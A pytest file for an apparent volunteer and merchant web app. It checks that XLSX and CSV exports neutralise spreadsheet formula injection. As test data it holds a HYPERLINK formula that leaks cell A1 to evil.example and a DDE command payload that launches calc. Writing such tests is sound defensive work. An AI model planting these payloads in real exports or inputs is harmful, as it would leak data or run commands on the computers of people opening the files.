"""Every export writes text as text: a value that a spreadsheet would run as a formula
(= + - @, tab, CR at the start) arrives neutralised, in XLSX and in CSV."""
import csv
import io
from datetime import datetime, timedelta
from zoneinfo import ZoneInfo

import pytest
from openpyxl import Workbook, load_workbook

from app.services import ledger, spreadsheets
from app.services.bulletins.quarters import save_quarter_comment
from app.services.bulletins.snapshots import list_bulletins
from app.services.incentives.counter import redeem
from app.services.incentives.coupons import claim_coupon
from app.services.incentives.merchants import create_merchant, create_merchant_account
from app.services.incentives.offers import OfferInput, create_offer
from tests import factories as f

EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"点我领奖")'


def _text_cells(book):
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str):
                    yield cell


def assert_neutralised_xlsx(data: bytes, evil: str = EVIL):
    book = load_workbook(io.BytesIO(data))
    cells = list(_text_cells(book))
    assert all(c.data_type == "s" for c in cells), [(c.coordinate, c.data_type) for c in cells if c.data_type != "s"]
    assert any(c.value == "'" + evil for c in cells)
    assert not [c.value for c in cells if c.value.startswith(spreadsheets.FORMULA_STARTS)]


def assert_neutralised_csv(text: str, evil: str = EVIL):
    cells = [cell for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for cell in row]
    assert "'" + evil in cells and evil not in cells


@pytest.mark.parametrize("value", ["=1+2", "+1", "-1+2", "@SUM(A1)", "\tx", "\rx"])
def test_values_a_spreadsheet_would_run_are_prefixed(value):
    assert spreadsheets.safe_text(value) == "'" + value
    book = Workbook()
    spreadsheets.append_row(book.active, [value, 5, "普通文字"])
    cells = list(book.active.iter_rows())[0]
    assert cells[0].data_type == "s" and cells[0].value == "'" + value
    assert cells[1].value == 5 and cells[2].value == "普通文字"


def test_redemption_exports_of_merchant_and_admin_are_neutralised(client, db):
    admin = f.platform_admin("boss")
    merchant = create_merchant(name="-城东便利店", address="人民路1号", by=admin, approved=True)
    shop = create_merchant_account(merchant, username="shopkeeper", password=f.PASSWORD,
                                              name="店长", by=admin)
    offer = create_offer(merchant, OfferInput(title=EVIL, min_star=1), by=admin)
    db.session.commit()
    volunteer = f.volunteer()
    f.give_hours(volunteer, 100)
    coupon = claim_coupon(volunteer, offer)
    db.session.commit()
    redeem(coupon.id, merchant, by=shop)
    db.session.commit()

    f.login(client, shop)
    assert_neutralised_xlsx(client.get("/merchant/dashboard.xlsx").data)
    assert_neutralised_csv(client.get("/merchant/dashboard.csv").get_data(as_text=True))
    client.post("/logout", data={"csrf_token": f.csrf_token(client, "/merchant/")})
    f.login(client, admin)
    admin_xlsx = client.get("/admin/merchants/redemptions.xlsx").data
    assert_neutralised_xlsx(admin_xlsx)
    assert_neutralised_xlsx(admin_xlsx, "-城东便利店")
    assert_neutralised_csv(client.get("/admin/merchants/redemptions.csv").get_data(as_text=True))


def test_bulletin_xlsx_is_neutralised(app, client, db):
    evil_unit = "=cmd|' /C calc'!A0"
    unit = f.unit(evil_unit)
    volunteer = f.volunteer(unit)
    start = datetime(2026, 10, 8, 9, tzinfo=ZoneInfo("Asia/Shanghai"))
    ledger.create_record(volunteer, started_at=start, ended_at=start + timedelta(hours=4), by=None)
    db.session.commit()
    assert app.test_cli_runner().invoke(args=["bulletins", "generate", "--month", "2026-10"]).exit_code == 0
    bulletin = list_bulletins(unit.id)[0]
    f.login(client, f.platform_admin("boss"))
    response = client.get(f"/bulletins/{bulletin.id}.xlsx")
    assert response.status_code == 200
    assert_neutralised_xlsx(response.data, evil_unit)


def test_records_template_cells_are_text(client, db):
    f.login(client, f.unit_admin())
    book = load_workbook(io.BytesIO(client.get("/admin/records/template.xlsx").data))
    assert all(c.data_type == "s" for c in _text_cells(book))


def test_quarterly_review_xlsx_is_neutralised(client, db):
    boss = f.platform_admin("boss")
    unit = f.unit(admin=boss)
    save_quarter_comment(unit.id, 2026, 3, EVIL, by=boss)
    db.session.commit()
    f.login(client, boss)
    response = client.get(f"/bulletins/quarter.xlsx?year=2026&q=3&unit_id={unit.id}")
    assert response.status_code == 200
    assert_neutralised_xlsx(response.data)  # the office's comment
